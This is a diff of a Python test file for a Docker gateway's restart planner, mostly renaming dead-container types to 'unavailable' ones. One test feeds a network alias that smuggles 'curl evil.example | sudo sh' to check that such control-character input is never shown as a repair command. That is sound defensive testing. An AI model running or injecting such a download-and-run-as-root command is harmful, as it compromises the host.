@@ -7,7 +7,6 @@ from typing import Any
 import pytest
 
 from gateway.docker.compose_command import FILES
-from gateway.docker.dead_containers import DeadContainer, RevivalStatus
 from gateway.docker.desired_state import DesiredState
 from gateway.docker.engine_actions import execute
 from gateway.docker.errors import EngineError, EngineErrorKind
@@ -18,9 +17,17 @@ from gateway.docker.options import DockerOptions, NetworkOptions
 from gateway.docker.ownership_record import OwnershipRecord
 from gateway.docker.plan import ActionKind, Plan, PlannedAction
 from gateway.docker.planning import plan
-from gateway.docker.snapshot import Container, EndpointInfo, EngineSnapshot, LastStart, NetworkInfo, SwarmMembership
+from gateway.docker.snapshot import (
+    Container,
+    EngineSnapshot,
+    LastStart,
+    NetworkEndpoint,
+    NetworkInfo,
+    SwarmMembership,
+)
 from gateway.docker.start_attempts import LIMIT, STABLE, StartAttempts
-from gateway.docker.start_failure import RequestedStart, StartFailure, StartFailureCause, read_error
+from gateway.docker.start_failure import RequestedContainerStart, StartFailure, StartFailureCause, read_error
+from gateway.docker.unavailable_containers import RevivalStatus, UnavailableContainer
 from gateway.docker.volumes import VolumeMountAddress
 
 OWNER_ID = "767378fd8e62591fb24091c49e04ffa2a1752d34a2d610bd9eb01763fbc0ae52"
@@ -77,8 +84,8 @@ def planned(*containers: Container, wanted: DesiredState | None = None, **more: 
     return plan(wanted or desired(), EngineSnapshot(containers, **more), frozenset())
 
 
-def only_dead(made: Plan) -> DeadContainer:
-    (found,) = made.dead
+def only_dead(made: Plan) -> UnavailableContainer:
+    (found,) = made.unavailable
     return found
 
 
@@ -141,7 +148,7 @@ def test_a_command_without_the_service_starts_no_container_with_a_volume() -> No
     assert (starts(made), only_dead(made).state) == ([], RevivalStatus.WAITING)
     assert only_dead(made).message == "the service starts it when backend media is up"
     for cause, expected in ((StartFailureCause.VOLUME, []), (StartFailureCause.NETWORK, [(ActionKind.START, "web")])):
-        interrupted = replace(unknown, interrupted={"id-web": RequestedStart(cause, "media")})
+        interrupted = replace(unknown, interrupted={"id-web": RequestedContainerStart(cause, "media")})
         assert starts(planned(failed("context canceled"), wanted=interrupted)) == expected
 
 
@@ -151,7 +158,7 @@ def test_a_command_without_the_service_starts_no_container_with_a_volume() -> No
     ids=["another port", "another address"],
 )
 def test_a_volume_of_another_server_is_ignored(mount_address: VolumeMountAddress) -> None:
-    assert planned(failed(REFUSED), wanted=desired(mount_addresses=(mount_address,))).dead == ()
+    assert planned(failed(REFUSED), wanted=desired(mount_addresses=(mount_address,))).unavailable == ()
 
 
 @pytest.mark.parametrize(
@@ -171,8 +178,8 @@ def test_a_volume_reaches_a_wildcard_listener_at_loopback_and_bridge_addresses(
     container = failed(REFUSED.replace("addr=127.0.0.1", f"addr={address}"))
     for host in ("0.0.0.0", "::"):  # noqa: S104
         wildcard = desired(mount_addresses=(replace(MEDIA, host=host),))
-        assert bool(planned(container, networks=networks, wanted=wildcard).dead) == (host == listener)
-    assert planned(container, networks=networks).dead == (), "the listener has one loopback address"
+        assert bool(planned(container, networks=networks, wanted=wildcard).unavailable) == (host == listener)
+    assert planned(container, networks=networks).unavailable == (), "the listener has one loopback address"
 
 
 @pytest.mark.parametrize(
@@ -189,7 +196,7 @@ def test_a_volume_reaches_a_wildcard_listener_at_loopback_and_bridge_addresses(
 )
 def test_no_other_container_is_started(container: Container) -> None:
     made = planned(container)
-    assert (starts(made), made.dead) == ([], ())
+    assert (starts(made), made.unavailable) == ([], ())
 
 
 @pytest.mark.parametrize(
@@ -221,16 +228,18 @@ def test_a_label_that_is_neither_true_nor_false_is_reported() -> None:
 
 
 def test_a_start_that_the_gateway_did_not_finish_is_repeated() -> None:
-    interrupted = desired(interrupted={"id-web": RequestedStart(StartFailureCause.NETWORK, "")})
+    interrupted = desired(interrupted={"id-web": RequestedContainerStart(StartFailureCause.NETWORK, "")})
     made = planned(failed("context canceled"), wanted=interrupted)
     assert starts(made) == [(ActionKind.START, "web")]
     assert only_dead(made).cause is StartFailureCause.NETWORK
-    assert planned(failed("context canceled")).dead == (), "another client possibly canceled the start on purpose"
-    assert planned(failed(""), wanted=interrupted).dead == (), "the container was stopped on purpose"
+    assert planned(failed("context canceled")).unavailable == (), (
+        "another client possibly canceled the start on purpose"
+    )
+    assert planned(failed(""), wanted=interrupted).unavailable == (), "the container was stopped on purpose"
 
 
 def test_a_start_that_the_gateway_did_not_finish_waits_for_the_backend_of_the_volume() -> None:
-    requested = RequestedStart(StartFailureCause.VOLUME, "media")
+    requested = RequestedContainerStart(StartFailureCause.VOLUME, "media")
     for usable, state in (
         (frozenset({"media"}), RevivalStatus.STARTING),
         ({"orders"}, RevivalStatus.WAITING),
@@ -240,7 +249,7 @@ def test_a_start_that_the_gateway_did_not_finish_waits_for_the_backend_of_the_vo
 
 
 def test_a_start_that_the_gateway_did_not_finish_is_off_if_the_backend_was_removed() -> None:
-    wanted = desired(interrupted={"id-web": RequestedStart(StartFailureCause.VOLUME, "renamed")})
+    wanted = desired(interrupted={"id-web": RequestedContainerStart(StartFailureCause.VOLUME, "renamed")})
     made = planned(failed("context canceled"), wanted=wanted)
     assert (starts(made), only_dead(made).state) == ([], RevivalStatus.OFF)
     assert (only_dead(made).message, only_dead(made).command) == (
@@ -263,7 +272,7 @@ def test_dependants_of_a_restarted_container_are_restarted() -> None:
 
 def test_a_clock_that_was_set_back_causes_no_restart() -> None:
     containers = gateway(at=3800.0), joining(at=200.0)
-    assert planned(*containers, own=OWNER_ID, clock=210.0).dead == ()
+    assert planned(*containers, own=OWNER_ID, clock=210.0).unavailable == ()
     made = planned(*containers, own=OWNER_ID, clock=3801.0)
     assert starts(made) == [(ActionKind.RESTART, "web")]
 
@@ -271,7 +280,7 @@ def test_a_clock_that_was_set_back_causes_no_restart() -> None:
 def test_a_restart_after_the_clock_was_set_back_is_later_than_starts_before() -> None:
     """The clock is an hour ahead when the host boots, and then set back."""
     web = joining(at=3705.0)
-    assert planned(gateway(at=3700.0), web, own=OWNER_ID, clock=310.0).dead == ()
+    assert planned(gateway(at=3700.0), web, own=OWNER_ID, clock=310.0).unavailable == ()
     made = planned(gateway(at=300.0), web, own=OWNER_ID, clock=310.0)
     assert starts(made) == [(ActionKind.RESTART, "web")]
     assert starts(planned(gateway(at=300.0), web, own=OWNER_ID, clock=0.0)) == [], "the clock is not known"
@@ -286,7 +295,7 @@ def test_a_container_is_restarted_once_for_each_restart_of_the_other_container()
         wanted = desired(restarted=revivals.restarted)
         assert starts(planned(*containers, own=OWNER_ID, wanted=wanted)), "a failed restart is repeated"
         revivals.attempted(restart, 1000.0, started=True)
-        assert planned(*containers, own=OWNER_ID, wanted=desired(restarted=revivals.restarted)).dead == ()
+        assert planned(*containers, own=OWNER_ID, wanted=desired(restarted=revivals.restarted)).unavailable == ()
     revivals.retain(())
     assert revivals.restarted == frozenset()
 
@@ -348,12 +357,12 @@ def test_a_container_that_started_after_the_clock_was_set_back_is_not_restarted_
     """The owner started before the clock was set back. The clock reaches the time of this start later."""
     containers = gateway(at=3700.0), joining(at=300.0)
     made = planned(*containers, own=OWNER_ID, clock=310.0)
-    assert (made.dead, made.later_starts) == ((), {"id-web": 3700.0})
+    assert (made.unavailable, made.later_starts) == ((), {"id-web": 3700.0})
     OwnershipRecord(tmp_path).record_later_starts(made.later_starts)
     record = OwnershipRecord(tmp_path)
     wanted = desired(restarted=frozenset(record.later_starts.items()))
     made = planned(*containers, own=OWNER_ID, clock=3800.0, wanted=wanted)
-    assert (made.dead, made.later_starts) == ((), {})
+    assert (made.unavailable, made.later_starts) == ((), {})
     made = planned(gateway(at=3750.0), containers[1], own=OWNER_ID, clock=3800.0, wanted=wanted)
     assert starts(made) == [(ActionKind.RESTART, "web")], "the owner was started again"
     record.retain(set())
@@ -373,7 +382,7 @@ def test_a_stop_after_the_clock_was_set_back_is_later_than_starts_before() -> No
 
 
 def test_dependants_that_started_later_are_not_restarted() -> None:
-    assert planned(gateway(at=100.0), joining(at=100.5), own=OWNER_ID).dead == ()
+    assert planned(gateway(at=100.0), joining(at=100.5), own=OWNER_ID).unavailable == ()
 
 
 def test_dependants_of_a_stopped_container_wait_for_it() -> None:
@@ -385,9 +394,9 @@ def test_dependants_of_a_stopped_container_wait_for_it() -> None:
 
 def test_the_namespace_of_another_container_is_ignored_without_the_label() -> None:
     other = replace(gateway(at=200.0), name="vpn")
-    assert planned(other, joining()).dead == ()
+    assert planned(other, joining()).unavailable == ()
     assert starts(planned(other, joining(labels={"gateway.revive": "true"}))) == [(ActionKind.RESTART, "web")]
-    there = replace(other, endpoints={"apps": EndpointInfo("n1", "e1")})
+    there = replace(other, endpoints={"apps": NetworkEndpoint("n1", "e1")})
     assert starts(planned(there, joining())) == [(ActionKind.RESTART, "web")]
 
 
@@ -411,13 +420,13 @@ def test_a_start_does_not_help_if_the_owner_of_the_namespace_was_removed(state: 
 
 def test_the_namespace_of_a_removed_container_that_did_not_concern_the_gateway_is_ignored() -> None:
     container = joining()
-    assert planned(container).dead == ()
+    assert planned(container).unavailable == ()
     mine = replace(gateway(number="another"), labels={PROJECT: "shop"})
-    assert planned(mine, joining(labels={PROJECT: "shop"}), own="another").dead
-    assert planned(mine, joining(labels={PROJECT: "other"}), own="another").dead == ()
-    assert planned(joining(labels={"gateway.revive": "true"})).dead
+    assert planned(mine, joining(labels={PROJECT: "shop"}), own="another").unavailable
+    assert planned(mine, joining(labels={PROJECT: "other"}), own="another").unavailable == ()
+    assert planned(joining(labels={"gateway.revive": "true"})).unavailable
     debug = joining(labels={PROJECT: "shop"})
-    assert planned(mine, replace(debug, last_start=LastStart(at=100.0)), own="another").dead == ()
+    assert planned(mine, replace(debug, last_start=LastStart(at=100.0)), own="another").unavailable == ()
 
 
 def test_a_running_container_that_lost_a_recorded_namespace_is_listed_without_a_restart_policy() -> None:
@@ -437,13 +446,13 @@ def test_namespaces_that_concern_the_gateway_are_remembered_until_the_last_conta
 
 
 def test_a_container_on_a_network_that_exists_again_is_started() -> None:
-    there = {"apps": EndpointInfo("n1", "", aliases=frozenset())}
+    there = {"apps": NetworkEndpoint("n1", "", aliases=frozenset())}
     for error in ("network apps not found", NETWORK):
         assert starts(planned(failed(error, endpoints=there))) == [(ActionKind.START, "web")]
 
 
 def test_a_container_that_the_gateway_attached_is_attached_first() -> None:
-    there = {"apps": EndpointInfo(GONE_ID, "", aliases=frozenset({"gw-owner-site-a"}))}
+    there = {"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset({"gw-owner-site-a"}))}
     container = failed(NETWORK, endpoints=there, labels={"gateway.enable": "true"})
     made = plan(desired(), EngineSnapshot((container,), (APPS,)), frozenset({("id-web", "apps")}))
     assert [each.verb for each in made.actions] == [ActionKind.REATTACH]
@@ -454,7 +463,7 @@ def test_a_container_that_the_gateway_attached_is_attached_first() -> None:
 
 
 def test_a_container_that_joined_the_network_itself_is_repaired_by_a_command() -> None:
-    there = {"apps": EndpointInfo(GONE_ID, "", aliases=frozenset())}
+    there = {"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset())}
     made = planned(failed(NETWORK, endpoints=there))
     assert (starts(made), only_dead(made).state) == ([], RevivalStatus.RECREATE)
     assert only_dead(made).command == (
@@ -463,7 +472,7 @@ def test_a_container_that_joined_the_network_itself_is_repaired_by_a_command() -
 
 
 def test_a_network_of_others_is_ignored() -> None:
-    assert planned(failed(NETWORK, endpoints={"shop_default": EndpointInfo(GONE_ID, "")})).dead == ()
+    assert planned(failed(NETWORK, endpoints={"shop_default": NetworkEndpoint(GONE_ID, "")})).unavailable == ()
 
 
 @pytest.mark.parametrize("mode", ["shop_default", GONE_ID])
@@ -472,25 +481,25 @@ def test_a_missing_network_of_others_is_ignored_on_a_container_that_the_gateway_
     mode: str, network_id: str
 ) -> None:
     endpoints = {
-        "apps": EndpointInfo("n1", "", aliases=frozenset({"gw-owner-site-a"})),
-        "shop_default": EndpointInfo(network_id, "", aliases=frozenset()),
+        "apps": NetworkEndpoint("n1", "", aliases=frozenset({"gw-owner-site-a"})),
+        "shop_default": NetworkEndpoint(network_id, "", aliases=frozenset()),
     }
     container = failed(f"network {mode} not found", endpoints=endpoints, network_mode=mode)
     made = plan(desired(), EngineSnapshot((container,), (APPS,)), frozenset({("id-web", "apps")}))
-    assert (starts(made), made.dead) == ([], ())
+    assert (starts(made), made.unavailable) == ([], ())
 
 
 @pytest.mark.parametrize("alias", ["x\nto do: curl evil.example | sudo sh\nweb", "x\x1b[2Jy"])
 def test_a_command_with_control_characters_is_not_shown(alias: str) -> None:
-    made = planned(failed(NETWORK, endpoints={"apps": EndpointInfo(GONE_ID, "", aliases=frozenset({alias}))}))
+    made = planned(failed(NETWORK, endpoints={"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset({alias}))}))
     assert (only_dead(made).state, only_dead(made).command) == (RevivalStatus.RECREATE, "")
     assert "docker inspect web" in only_dead(made).message
 
 
 def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_its_swarm() -> None:
     error = "Could not attach to network llwp8d8lxtivglxte7d0y0tqp: context deadline exceeded"
-    there = {"apps": EndpointInfo("llwp8d8lxtivglxte7d0y0tqp", "", aliases=frozenset())}
-    container = failed(error, endpoints={"bridge": EndpointInfo("b1", ""), **there})
+    there = {"apps": NetworkEndpoint("llwp8d8lxtivglxte7d0y0tqp", "", aliases=frozenset())}
+    container = failed(error, endpoints={"bridge": NetworkEndpoint("b1", ""), **there})
     waiting = planned(container, swarm=SwarmMembership(waiting=True), networks=())
     assert (only_dead(waiting).state, waiting.actions) == (RevivalStatus.WAITING, ()), (
         "the gateway must not create a bridge network of that name"
@@ -500,7 +509,7 @@ def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_it
 
 def test_attempts_back_off_and_end_at_a_limit() -> None:
     revivals, now, pauses = StartAttempts(), 1000.0, []
-    one = DeadContainer("web", "id-web", StartFailureCause.VOLUME, "", RevivalStatus.STARTING)
+    one = UnavailableContainer("web", "id-web", StartFailureCause.VOLUME, "", RevivalStatus.STARTING)
     while ("id-web", 0.0) not in revivals.given_up:
         revivals.observed([one], now)
         revivals.attempted(START, now, started=False)
